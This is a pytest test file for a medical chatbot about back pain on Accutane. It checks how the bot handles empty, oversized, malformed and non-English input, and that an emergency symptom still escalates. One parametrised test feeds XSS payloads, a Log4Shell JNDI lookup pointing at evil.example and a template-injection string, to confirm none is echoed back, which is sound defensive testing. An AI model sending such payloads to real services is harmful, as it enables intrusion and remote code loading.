"""Bad input gets a clear, polite reply, never a server error, never raw HTML back."""

from __future__ import annotations

import httpx
import pytest

from isobot import settings
from isobot.content.other_languages import other_languages

UNREADABLE = "Sorry, I couldn't read that."


@pytest.mark.parametrize("message", ["", "   ", "\n\t", "👍👍👍", "😭", "?!?!", "\x00\x07\x1b\x7f"])
def test_empty_emoji_and_control_characters_get_a_polite_reply(chat, message):
    texts = chat.texts(message)
    assert texts and texts[0].startswith(UNREADABLE)


def test_twenty_thousand_characters_are_truncated_with_a_notice(chat, catalogue):
    message = "why does accutane cause back pain? " + "blah " * 4000
    assert len(message) >= 20_000
    texts = chat.texts(message)
    assert texts[0] == "Your message was very long, so I read only the first part of it."
    assert len(texts) >= 2  # then an answer or the closest topics, never silence


def test_control_characters_inside_text_are_ignored(chat, catalogue):
    assert catalogue.answers["prevalence_overview"].text in chat.said(
        "how\x00 common\x1b[31m is back pain\x07 on accutane"
    )


def test_a_red_flag_at_the_end_of_a_huge_message_still_escalates(chat):
    message = "hello " * 3500 + "and now i cannot feel my bum or my groin"
    texts = chat.texts(message)
    assert "emergency" in texts[0].lower()


@pytest.mark.parametrize(
    "message",
    [
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "<b>why</b> does <i>accutane</i> hurt my back",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} {% raw %}",
    ],
)
def test_markup_and_template_strings_are_never_echoed(chat, message):
    reply = chat.send(message)
    assert reply
    for item in reply:
        text = item.get("text", "")
        assert "<script" not in text and "<img" not in text and "jndi" not in text and "{{" not in text


@pytest.mark.parametrize(
    "message, code",
    [
        ("j'ai mal au dos depuis que je prends du roaccutane", "fr"),
        ("у меня болит спина от роаккутана", "ru"),
        ("我吃异维A酸后腰疼", "zh"),
    ],
)
def test_other_languages_are_told_english_or_spanish_with_the_emergency_number(chat, catalogue, message, code):
    # The SafetyGate names the language (other_language), so the line is in the patient's own.
    _, lines = other_languages().filled(catalogue.region_numbers(settings.region())["emergency_number"])
    assert chat.texts(message)[0] == lines[code]


def test_a_language_too_short_to_name_gets_the_english_and_spanish_line(chat, catalogue):
    both, _ = other_languages().filled(catalogue.region_numbers(settings.region())["emergency_number"])
    assert chat.texts("merci beaucoup")[0] == both


@pytest.mark.parametrize(
    "body, content_type",
    [
        (b"{not json", "application/json"),
        (b"", "application/json"),
        (b'{"sender": "x"}', "application/json"),
        (b"message=hi", "application/x-www-form-urlencoded"),
    ],
)
def test_malformed_requests_never_get_a_server_error(rasa_server, body, content_type):
    reply = httpx.post(
        f"{rasa_server.url}/webhooks/rest/webhook", content=body, headers={"Content-Type": content_type}, timeout=30
    )
    assert reply.status_code < 500
